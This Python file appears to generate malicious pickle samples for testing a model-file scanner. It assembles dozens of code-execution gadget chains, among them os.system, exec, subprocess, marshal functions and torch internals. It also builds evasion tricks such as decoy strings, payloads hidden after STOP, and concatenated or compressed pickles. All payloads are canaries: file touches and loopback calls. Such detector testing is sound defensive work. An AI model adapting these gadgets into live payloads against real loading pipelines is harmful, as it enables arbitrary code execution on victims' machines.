"""Malicious raw pickles: one canary per gadget family and per opcode trick.

Pickles are assembled opcode by opcode (see the small assembler below) so each sample shows exactly the
construct it is named after, including globals that are not importable here (``requests.get``). A few
use ``__reduce__`` objects instead, to look like what ``pickle.dumps`` really emits (``posix.system``).
Nothing here is ever unpickled.
"""

from __future__ import annotations

import bz2
import gzip
import lzma
import marshal
import os
import pickle
import shlex
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

from mlwarden_samples import BuildContext, Made, register

# --- a tiny pickle assembler ------------------------------------------------------------------------


def glob(module: str, name: str) -> bytes:
    r"""GLOBAL opcode (protocols 0-3 style): ``c<module>\n<name>\n``."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sglob(module: str, name: str) -> bytes:
    r"""STACK_GLOBAL (protocol 4+): two SHORT_BINUNICODE strings then ``\x93``."""
    return sstr(module) + sstr(name) + b"\x93"


def ustr(text: str) -> bytes:
    """BINUNICODE: any length, protocol 1+."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def sstr(text: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4+), for strings under 256 bytes."""
    raw = text.encode()
    if len(raw) > 255:
        raise ValueError("SHORT_BINUNICODE holds at most 255 bytes")
    return b"\x8c" + bytes([len(raw)]) + raw


def bint(value: int) -> bytes:
    """BININT: a signed 32-bit integer."""
    return b"J" + struct.pack("<i", value)


def bbytes(raw: bytes) -> bytes:
    """BINBYTES (protocol 3+)."""
    return b"B" + struct.pack("<I", len(raw)) + raw


def tup(*items: bytes) -> bytes:
    """MARK items TUPLE."""
    return b"(" + b"".join(items) + b"t"


def lst(*items: bytes) -> bytes:
    """EMPTY_LIST MARK items APPENDS."""
    return b"](" + b"".join(items) + b"e"


def dct(*pairs: tuple[bytes, bytes]) -> bytes:
    """EMPTY_DICT, then MARK key value ... SETITEMS when there are pairs."""
    if not pairs:
        return b"}"
    return b"}(" + b"".join(k + v for k, v in pairs) + b"u"


def call(func: bytes, *args: bytes) -> bytes:
    """``func(*args)``: callable, MARK args TUPLE, REDUCE."""
    return func + tup(*args) + b"R"


def pkl(body: bytes, protocol: int = 2) -> bytes:
    """Wrap an opcode body in PROTO and STOP."""
    return b"\x80" + bytes([protocol]) + body + b"."


class Reduce:
    """Pickles as ``func(*args)``. Pickling never calls ``func``; only unpickling would."""

    def __init__(self, func: Callable[..., Any], *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.func, self.args


# --- payload text ---------------------------------------------------------------------------------


def shell(ctx: BuildContext, family: str) -> str:
    """A shell command that would create the family's canary file."""
    return f"touch {shlex.quote(ctx.canary(family))}"


def pysrc(ctx: BuildContext, family: str) -> str:
    """A Python expression (also a valid statement) that would create the family's canary file."""
    return f"open({ctx.canary(family)!r}, 'w').write('mlwarden canary')"


def lambda_code(ctx: BuildContext, family: str) -> bytes:
    """Marshalled code of ``lambda: <pysrc>``. Compiling does not run it."""
    module = compile(f"lambda *a: {pysrc(ctx, family)}", f"<{family}>", "eval")
    code = next(c for c in module.co_consts if hasattr(c, "co_code"))
    return marshal.dumps(code)


def os_system(ctx: BuildContext, family: str) -> bytes:
    """The plainest payload, reused inside containers: ``os.system('touch <canary>')``."""
    return pkl(call(glob("os", "system"), ustr(shell(ctx, family))))


def exec_pickle(ctx: BuildContext, family: str) -> bytes:
    """``builtins.exec(<pysrc>)`` as protocol 2."""
    return pkl(call(glob("builtins", "exec"), ustr(pysrc(ctx, family))))


# --- one table row per gadget family: (family, description, expect, body) --------------------------

Body = Callable[[BuildContext, str], bytes]


def _function_from_marshal(c: BuildContext, f: str) -> bytes:
    return call(glob("marshal", "loads"), bbytes(lambda_code(c, f)))


def _decoys(c: BuildContext, f: str) -> bytes:
    # Strings a naive scanner might pair up: torch/LongStorage are pushed, memoised and popped; the real
    # module and name come back from the memo by BINGET just before STACK_GLOBAL.
    return (
        sstr("torch")
        + b"\x94"
        + sstr("LongStorage")
        + b"\x94"
        + b"00"
        + sstr("os")
        + b"\x94"
        + b"0"
        + sstr("system")
        + b"\x94"
        + b"0"
        + b"h\x02h\x03\x93"
        + tup(ustr(shell(c, f)))
        + b"R"
    )


def _build_setstate(c: BuildContext, f: str) -> bytes:
    # BUILD with (None, {"__setstate__": os.system}) sets an instance attribute; the next BUILD finds
    # that attribute and calls it with the state, i.e. os.system(cmd).
    return (
        call(glob("argparse", "Namespace"))
        + b"N"
        + dct((ustr("__setstate__"), glob("os", "system")))
        + b"\x86b"
        + ustr(shell(c, f))
        + b"b"
    )


def _proto0(text: str) -> bytes:
    if "\\" in text or "\n" in text:
        raise ValueError("protocol-0 unicode strings here must not need escaping")
    return text.encode("raw_unicode_escape")


_TABLE: list[tuple[str, str, tuple[str, ...], int, Body]] = [
    (
        "pickle-os-system",
        "os.system shell command via GLOBAL + REDUCE",
        ("os.system",),
        2,
        lambda c, f: call(glob("os", "system"), ustr(shell(c, f))),
    ),
    (
        "pickle-subprocess-popen",
        "subprocess.Popen with an argv list",
        ("subprocess.Popen",),
        2,
        lambda c, f: call(glob("subprocess", "Popen"), lst(ustr("touch"), ustr(c.canary(f)))),
    ),
    (
        "pickle-subprocess-check-output",
        "subprocess.check_output with an argv list",
        ("subprocess.check_output",),
        2,
        lambda c, f: call(glob("subprocess", "check_output"), lst(ustr("touch"), ustr(c.canary(f)))),
    ),
    (
        "pickle-builtins-exec",
        "builtins.exec of Python source",
        ("builtins.exec",),
        2,
        lambda c, f: call(glob("builtins", "exec"), ustr(pysrc(c, f))),
    ),
    (
        "pickle-builtins-eval",
        "builtins.eval of a Python expression",
        ("builtins.eval",),
        2,
        lambda c, f: call(glob("builtins", "eval"), ustr(pysrc(c, f))),
    ),
    (
        "pickle-builtins-compile",
        "exec(compile(src, ...))",
        ("builtins.compile", "builtins.exec"),
        2,
        lambda c, f: call(
            glob("builtins", "exec"), call(glob("builtins", "compile"), ustr(pysrc(c, f)), ustr("<m>"), ustr("exec"))
        ),
    ),
    (
        "pickle-py2-builtin-eval",
        "Python 2 name __builtin__.eval (mapped by fix_imports)",
        ("__builtin__.eval",),
        2,
        lambda c, f: call(glob("__builtin__", "eval"), ustr(pysrc(c, f))),
    ),
    (
        "pickle-getattr-chain",
        "getattr(__import__('os'), 'system')(cmd)",
        ("builtins.getattr", "builtins.__import__"),
        2,
        lambda c, f: call(
            call(glob("builtins", "getattr"), call(glob("builtins", "__import__"), ustr("os")), ustr("system")),
            ustr(shell(c, f)),
        ),
    ),
    (
        "pickle-dunder-import",
        "operator.methodcaller('system', cmd)(__import__('os'))",
        ("builtins.__import__", "operator.methodcaller"),
        2,
        lambda c, f: call(
            call(glob("operator", "methodcaller"), ustr("system"), ustr(shell(c, f))),
            call(glob("builtins", "__import__"), ustr("os")),
        ),
    ),
    (
        "pickle-importlib-attrgetter",
        "operator.attrgetter('system')(importlib.import_module('os'))(cmd)",
        ("importlib.import_module", "operator.attrgetter"),
        2,
        lambda c, f: call(
            call(
                call(glob("operator", "attrgetter"), ustr("system")),
                call(glob("importlib", "import_module"), ustr("os")),
            ),
            ustr(shell(c, f)),
        ),
    ),
    (
        "pickle-functools-partial",
        "functools.partial(os.system, cmd)()",
        ("functools.partial", "os.system"),
        2,
        lambda c, f: call(call(glob("functools", "partial"), glob("os", "system"), ustr(shell(c, f)))),
    ),
    (
        "pickle-marshal-function",
        "types.FunctionType(marshal.loads(code), {})()",
        ("types.FunctionType", "marshal.loads"),
        3,
        lambda c, f: call(call(glob("types", "FunctionType"), _function_from_marshal(c, f), dct())),
    ),
    (
        "pickle-runpy-run-code",
        "runpy._run_code(src, {}) executes source",
        ("runpy._run_code",),
        2,
        lambda c, f: call(glob("runpy", "_run_code"), ustr(pysrc(c, f)), dct()),
    ),
    (
        "pickle-code-interpreter",
        "code.InteractiveInterpreter.runsource via dotted STACK_GLOBAL names",
        ("code.InteractiveInterpreter.runsource", "code.InteractiveInterpreter"),
        4,
        lambda c, f: call(
            sglob("code", "InteractiveInterpreter.runsource"),
            call(sglob("code", "InteractiveInterpreter")),
            ustr(pysrc(c, f)),
        ),
    ),
    (
        "pickle-timeit",
        "timeit.timeit(src, 'pass', default_timer, 1)",
        ("timeit.timeit",),
        2,
        lambda c, f: call(
            glob("timeit", "timeit"), ustr(pysrc(c, f)), ustr("pass"), glob("timeit", "default_timer"), bint(1)
        ),
    ),
    (
        "pickle-cprofile-run",
        "cProfile.run(src)",
        ("cProfile.run",),
        2,
        lambda c, f: call(glob("cProfile", "run"), ustr(pysrc(c, f))),
    ),
    ("pickle-pdb-run", "pdb.run(src)", ("pdb.run",), 2, lambda c, f: call(glob("pdb", "run"), ustr(pysrc(c, f)))),
    (
        "pickle-ctypes-cdll",
        "ctypes.CDLL of a library path (its constructors would run)",
        ("ctypes.CDLL",),
        2,
        lambda c, f: call(glob("ctypes", "CDLL"), ustr(str(c.canary_dir / "evil.so"))),
    ),
    (
        "pickle-shutil-rmtree",
        "shutil.rmtree of a folder inside the canary dir",
        ("shutil.rmtree",),
        2,
        lambda c, f: call(glob("shutil", "rmtree"), ustr(str(c.canary_dir / "rmtree-target"))),
    ),
    (
        "pickle-socket-connect",
        "socket.create_connection to the loopback canary port",
        ("socket.create_connection",),
        2,
        lambda c, f: call(glob("socket", "create_connection"), tup(ustr("127.0.0.1"), bint(c.port))),
    ),
    (
        "pickle-io-fileio",
        "io.FileIO(path, 'w') creates a file",
        ("io.FileIO",),
        2,
        lambda c, f: call(glob("io", "FileIO"), ustr(c.canary(f)), ustr("w")),
    ),
    (
        "pickle-io-open",
        "io.open(path, 'w') creates a file",
        ("io.open",),
        2,
        lambda c, f: call(glob("io", "open"), ustr(c.canary(f)), ustr("w")),
    ),
    (
        "pickle-builtins-open",
        "builtins.open(path, 'w') creates a file",
        ("builtins.open",),
        2,
        lambda c, f: call(glob("builtins", "open"), ustr(c.canary(f)), ustr("w")),
    ),
    (
        "pickle-logging-listen",
        "threading.Thread.start(logging.config.listen(port)): config server",
        ("logging.config.listen",),
        4,
        lambda c, f: call(sglob("threading", "Thread.start"), call(sglob("logging.config", "listen"), bint(c.port))),
    ),
    (
        "pickle-numpy-runstring",
        "numpy.testing._private.utils.runstring(src, {}) executes source",
        ("numpy.testing._private.utils.runstring",),
        2,
        lambda c, f: call(glob("numpy.testing._private.utils", "runstring"), ustr(pysrc(c, f)), dct()),
    ),
    (
        "pickle-f2py-myeval",
        "numpy.f2py.crackfortran.myeval evaluates an expression",
        ("numpy.f2py.crackfortran.myeval",),
        2,
        lambda c, f: call(glob("numpy.f2py.crackfortran", "myeval"), ustr(pysrc(c, f))),
    ),
    (
        "pickle-nested-loads",
        "pickle.loads of an embedded os.system pickle",
        ("pickle.loads", "os.system"),
        3,
        lambda c, f: call(glob("pickle", "loads"), bbytes(os_system(c, f))),
    ),
    (
        "pickle-webbrowser-open",
        "webbrowser.open of a loopback URL",
        ("webbrowser.open",),
        2,
        lambda c, f: call(glob("webbrowser", "open"), ustr(c.url(f))),
    ),
    (
        "pickle-urllib-urlopen",
        "urllib.request.urlopen of a loopback URL",
        ("urllib.request.urlopen",),
        2,
        lambda c, f: call(glob("urllib.request", "urlopen"), ustr(c.url(f))),
    ),
    (
        "pickle-requests-get",
        "requests.get of a loopback URL (requests need not be installed)",
        ("requests.get",),
        2,
        lambda c, f: call(glob("requests", "get"), ustr(c.url(f))),
    ),
    (
        "pickle-pandas-read-csv",
        "pandas.read_csv of a loopback URL",
        ("pandas.read_csv",),
        2,
        lambda c, f: call(glob("pandas", "read_csv"), ustr(c.url(f))),
    ),
    (
        "pickle-torch-collect-env",
        "torch.utils.collect_env.run(cmd) runs a shell command",
        ("torch.utils.collect_env.run",),
        2,
        lambda c, f: call(glob("torch.utils.collect_env", "run"), ustr(shell(c, f))),
    ),
    (
        "pickle-torch-fx-exec",
        "torch.fx.graph_module._exec_with_source(src, {})",
        ("torch.fx.graph_module._exec_with_source",),
        2,
        lambda c, f: call(glob("torch.fx.graph_module", "_exec_with_source"), ustr(pysrc(c, f)), dct()),
    ),
    (
        "pickle-torch-codecache",
        "torch._inductor.codecache.PyCodeCache.load(src) imports source",
        ("torch._inductor.codecache.PyCodeCache.load",),
        4,
        lambda c, f: call(sglob("torch._inductor.codecache", "PyCodeCache.load"), ustr(pysrc(c, f))),
    ),
    (
        "pickle-torch-jit-execwrapper",
        "torch.jit.unsupported_tensor_ops.execWrapper(src, {}, {})",
        ("torch.jit.unsupported_tensor_ops.execWrapper",),
        2,
        lambda c, f: call(glob("torch.jit.unsupported_tensor_ops", "execWrapper"), ustr(pysrc(c, f)), dct(), dct()),
    ),
    (
        "pickle-torch-serialization-load",
        "torch.serialization.load of a second-stage file in the canary dir",
        ("torch.serialization.load",),
        2,
        lambda c, f: call(glob("torch.serialization", "load"), ustr(str(c.canary_dir / "stage2.pt"))),
    ),
    (
        "pickle-torch-hub-load-local",
        "torch.hub._load_local runs hubconf.py from a folder in the canary dir",
        ("torch.hub._load_local",),
        2,
        lambda c, f: call(glob("torch.hub", "_load_local"), ustr(str(c.canary_dir / "hub")), ustr("model")),
    ),
    (
        "pickle-multiprocessing-spawnv",
        "multiprocessing.util.spawnv_passfds('/bin/sh', ['sh','-c',cmd], ())",
        ("multiprocessing.util.spawnv_passfds",),
        2,
        lambda c, f: call(
            glob("multiprocessing.util", "spawnv_passfds"),
            ustr("/bin/sh"),
            lst(ustr("sh"), ustr("-c"), ustr(shell(c, f))),
            b")",
        ),
    ),
    (
        "pickle-stack-global-decoys",
        "STACK_GLOBAL whose os/system come from the memo after decoy strings",
        ("os.system",),
        4,
        _decoys,
    ),
    (
        "pickle-inst",
        "protocol-0 INST opcode calling builtins.exec",
        ("builtins.exec",),
        0,
        lambda c, f: b"(V" + _proto0(pysrc(c, f)) + b"\nibuiltins\nexec\n",
    ),
    (
        "pickle-obj",
        "OBJ opcode calling os.system",
        ("os.system",),
        1,
        lambda c, f: b"(" + glob("os", "system") + ustr(shell(c, f)) + b"o",
    ),
    (
        "pickle-newobj",
        "NEWOBJ of types.FunctionType over marshalled code, then called",
        ("types.FunctionType", "marshal.loads"),
        3,
        lambda c, f: glob("types", "FunctionType") + tup(_function_from_marshal(c, f), dct()) + b"\x81)R",
    ),
    (
        "pickle-newobj-ex",
        "NEWOBJ_EX of types.FunctionType with keyword arguments, then called",
        ("types.FunctionType", "marshal.loads"),
        4,
        lambda c, f: (
            sglob("types", "FunctionType")
            + tup(_function_from_marshal(c, f), dct())
            + dct((sstr("name"), sstr("f")))
            + b"\x92)R"
        ),
    ),
    (
        "pickle-ext1",
        "copyreg.add_extension('os','system',241) then EXT1 241 resolves to os.system",
        ("copyreg.add_extension", "os.system"),
        2,
        lambda c, f: (
            call(glob("copyreg", "add_extension"), ustr("os"), ustr("system"), bint(241))
            + b"0"
            + b"\x82\xf1"
            + tup(ustr(shell(c, f)))
            + b"R"
        ),
    ),
    (
        "pickle-build-setstate",
        "BUILD plants __setstate__ = os.system, a second BUILD calls it",
        ("os.system",),
        2,
        _build_setstate,
    ),
]


def _register_table() -> None:
    for family, description, expect, protocol, body in _TABLE:

        def build(
            ctx: BuildContext,
            folder: Path,
            *,
            family: str = family,
            description: str = description,
            expect: tuple[str, ...] = expect,
            protocol: int = protocol,
            body: Body = body,
        ) -> list[Made]:
            raw = body(ctx, family)
            data = (raw + b".") if protocol == 0 else pkl(raw, protocol)
            path = folder / "model.pkl"
            path.write_bytes(data)
            return [Made(path, f"{description} (protocol {protocol})", expect)]

        register("malicious", family)(build)


_register_table()


@register("malicious", "pickle-posix-system")
def _posix_system(ctx: BuildContext, folder: Path) -> list[Made]:
    path = folder / "model.pkl"
    path.write_bytes(pickle.dumps(Reduce(os.system, shell(ctx, "pickle-posix-system")), protocol=4))
    return [Made(path, "os.system as pickle.dumps writes it (the OS module name)", (f"{os.system.__module__}.system",))]


@register("malicious", "pickle-protocol0-text")
def _protocol0(ctx: BuildContext, folder: Path) -> list[Made]:
    path = folder / "model.pkl"
    path.write_bytes(b"cos\nsystem\n(V" + _proto0(shell(ctx, "pickle-protocol0-text")) + b"\ntR.")
    return [Made(path, "text-only protocol-0 pickle: os.system", ("os.system",))]


@register("malicious", "pickle-truncated-tail")
def _truncated(ctx: BuildContext, folder: Path) -> list[Made]:
    path = folder / "model.pkl"
    body = call(glob("os", "system"), ustr(shell(ctx, "pickle-truncated-tail")))
    path.write_bytes(b"\x80\x02" + body + b"X\xff\x00\x00\x00trunc")  # a BINUNICODE that never ends
    return [Made(path, "os.system payload, then a truncated string and no STOP (malformed)", ("os.system",))]


@register("malicious", "pickle-concatenated")
def _concatenated(ctx: BuildContext, folder: Path) -> list[Made]:
    path = folder / "model.pkl"
    first = pickle.dumps({"weights": [0.25, 0.5]}, protocol=2)
    path.write_bytes(first + exec_pickle(ctx, "pickle-concatenated"))
    return [Made(path, "benign pickle followed by a second pickle calling builtins.exec", ("builtins.exec",))]


@register("malicious", "pickle-trailing-after-stop")
def _trailing(ctx: BuildContext, folder: Path) -> list[Made]:
    path = folder / "model.pkl"
    hidden = os_system(ctx, "pickle-trailing-after-stop")
    path.write_bytes(pickle.dumps({"epoch": 3}, protocol=2) + b"\x00" * 7 + hidden)
    return [Made(path, "benign pickle, padding after STOP, then a hidden os.system pickle", ("os.system",))]


@register("malicious", "pickle-compressed")
def _compressed(ctx: BuildContext, folder: Path) -> list[Made]:
    out: list[Made] = []

    def gz(data: bytes) -> bytes:
        return gzip.compress(data, mtime=0)  # a fixed header time: the same bytes whenever it is built

    for name, compress in (("gz", gz), ("bz2", bz2.compress), ("xz", lzma.compress)):
        path = folder / f"model.pkl.{name}"
        path.write_bytes(compress(os_system(ctx, f"pickle-compressed-{name}")))
        out.append(Made(path, f"{name}-compressed os.system pickle", ("os.system",)))
    return out
